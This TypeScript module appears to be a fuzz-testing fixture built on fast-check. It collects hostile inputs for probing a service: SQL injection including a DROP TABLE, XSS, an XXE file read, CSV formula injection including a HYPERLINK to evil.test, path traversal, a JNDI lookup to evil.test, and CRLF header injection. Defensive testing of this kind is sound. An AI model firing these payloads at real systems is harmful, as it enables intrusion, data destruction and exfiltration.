import fc from 'fast-check';

/**
 * Stands for the marker of the request it ends up in: replaced, when the request is sent, by a
 * string unique to that request, so a row holding it proves which request wrote it.
 */
export const markerPlaceholder = 'MRKPLACE';

/** Strings attackers send: injections, traversal, unicode that breaks naive code. */
export const hostileStrings: readonly string[] = [
  // SQL
  `' OR '1'='1`,
  `'; DROP TABLE users; --`,
  `1; SELECT pg_sleep(10)--`,
  `" OR ""="`,
  `\\'; --`,
  `%' AND 1=1 --`,
  `$1`,
  `E'\\x00'`,
  `'||(SELECT current_user)||'`,
  // HTML / script
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `javascript:alert(1)`,
  `<svg onload=alert(1)>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  // CSV / spreadsheet formulas
  `=HYPERLINK("http://evil.test","x")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `a,b,"c""d",\ne`,
  // Path traversal
  `../../etc/passwd`,
  `..%2f..%2fetc%2fpasswd`,
  `%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
  `%252e%252e%252fetc%252fpasswd`,
  `..\\..\\windows\\win.ini`,
  `....//....//etc/passwd`,
  `..%c0%af..%c0%afetc%c0%afpasswd`,
  `/etc/passwd`,
  `file:///etc/passwd`,
  // Unicode edge cases
  '\uD800',
  '\uDC00x',
  'a\uDBFF',
  '\u202Egnp.exe',
  '\u200F\u200E',
  '\u200B\u200C\u200D\uFEFF',
  '\u0000',
  'a\u0000b',
  '%00',
  '👩‍👩‍👧‍👦🎟️🏳️‍🌈',
  'ｅｘａｍｐｌｅ＠ｅｘａｍｐｌｅ．ｔｅｓｔ',
  'ﬁ①Ｋ\u212A\u2126',
  'e\u0301\u0301\u0301\u0301\u0301',
  'İı',
  '\u0085\u2028\u2029',
  '\uFFFF\uFFFE',
  // Other classics
  '',
  ' ',
  '9'.repeat(400),
  '-0',
  'NaN',
  'null',
  'undefined',
  '[]',
  '{}',
  '\r\nSet-Cookie: pwned=1',
  '${jndi:ldap://evil.test/a}',
  '__proto__',
  'constructor',
  'x@example.test\r\nBcc: victim@example.test',
  '"<script>"@example.test',
];

/** Keys that must never reach object prototypes or file paths. */
export const hostileKeys: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '$where',
  'toString',
  'hasOwnProperty',
  '\u0000',
  '',
  'a'.repeat(300),
];

/** Values of another type than a schema expects. */
export const wrongTypeValues: readonly unknown[] = [
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  true,
  false,
  null,
  [],
  {},
  '',
  'a string',
  [1, 2, 3],
  { nested: { value: 1 } },
  '2030-02-30T25:61:00Z',
  '00000000-0000-0000-0000-000000000000',
];

/** A hostile string with the request marker around it (so a stored copy is found). */
export const hostileStringArb: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc
      .tuple(fc.constantFrom(...hostileStrings), fc.constantFrom('prefix', 'suffix', 'bare'))
      .map(([s, where]) =>
        where === 'prefix'
          ? `${markerPlaceholder}${s}`
          : where === 'suffix'
            ? `${s}${markerPlaceholder}`
            : s,
      ),
    weight: 4,
  },
  // Any code points, lone surrogates included.
  fc.string({ unit: 'binary', maxLength: 30 }).map((s) => `${markerPlaceholder}${s}`),
);

/** 100 KB and more, of a few kinds of characters. */
export const hugeStringArb: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('A', 'é', '🎟️', '<script>', "'", '\u200B', '../'),
    fc.integer({ min: 100_001, max: 160_000 }),
  )
  .map(([unit, length]) => markerPlaceholder + unit.repeat(Math.ceil(length / unit.length)));

/** Nested JSON `levels` deep: objects or arrays. */
export function deepJson(levels: number, shape: 'object' | 'array'): unknown {
  let value: unknown = markerPlaceholder;
  for (let i = 0; i < levels; i += 1) value = shape === 'object' ? { a: value } : [value];
  return value;
}
